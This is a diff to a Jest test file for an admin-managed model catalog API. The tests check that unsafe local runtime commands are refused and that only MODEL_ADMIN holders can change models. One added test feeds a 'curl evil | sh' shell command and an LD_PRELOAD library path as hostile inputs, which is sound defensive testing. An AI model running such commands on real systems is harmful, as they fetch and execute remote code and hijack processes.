@@ -68,6 +68,16 @@ describe('the model catalog, managed by admins', () => {
     expect(await auditActions('bad-model')).toEqual([]);
   });
 
+  it('refuses a model its local runtime would not run (400 LOCAL_COMMAND_REFUSED), naming each field, and writes nothing', async () => {
+    const refused = await put('shell-model', { ...echoLike, localCommand: ['bash', '-c', 'curl evil | sh'], env: { LD_PRELOAD: '/tmp/x.so' } });
+    expect(refused.status).toBe(400);
+    expect(refused.body.error).toMatchObject({ code: 'LOCAL_COMMAND_REFUSED', message: expect.stringContaining('"bash" is neither node') });
+    expect(refused.body.error.details.issues.map((issue: { path: string[] }) => issue.path)).toEqual([['localCommand'], ['env']]);
+    expect((await post('node-eval', { ...echoLike, localCommand: ['node', '-e', 'process.exit()'] })).body.error.code).toBe('LOCAL_COMMAND_REFUSED');
+    expect(await auditActions('shell-model')).toEqual([]);
+    expect(await auditActions('node-eval')).toEqual([]);
+  });
+
   it('registers with POST only an id that is free (409 MODEL_EXISTS otherwise)', async () => {
     expect((await post('posted', echoLike)).status).toBe(201);
     const again = await post('posted', { ...echoLike, maxInstances: 5 });
@@ -132,10 +142,16 @@ describe('the model catalog, managed by admins', () => {
     expect((await stack.api.waitUntilFinal(token, back)).request.status).toBe('COMPLETE');
   });
 
-  it('is for admins only', async () => {
+  it('is for model admins only: a user, and an ADMIN without MODEL_ADMIN, change nothing', async () => {
     const user = await stack.api.signUp({ username: `someone${Date.now()}` });
-    expect((await put('sneaky', echoLike, user.accessToken)).status).toBe(403);
-    expect((await remove('echo', user.accessToken)).status).toBe(403);
-    expect((await stack.api.call('GET', '/api/admin/models', { token: user.accessToken })).status).toBe(403);
+    const adminOnly = (await stack.signUpAdmin('viewer', ['ADMIN'])).token;
+    for (const token of [user.accessToken, adminOnly]) {
+      const refused = await put('sneaky', echoLike, token);
+      expect(refused.status).toBe(403);
+      expect(refused.body.error).toMatchObject({ code: 'PERMISSION_REQUIRED', message: 'This needs the MODEL_ADMIN permission' });
+      expect((await remove('echo', token)).status).toBe(403);
+      expect((await stack.api.call('GET', '/api/admin/models', { token })).status).toBe(403);
+    }
+    expect(await auditActions('sneaky')).toEqual([]);
   });
 });
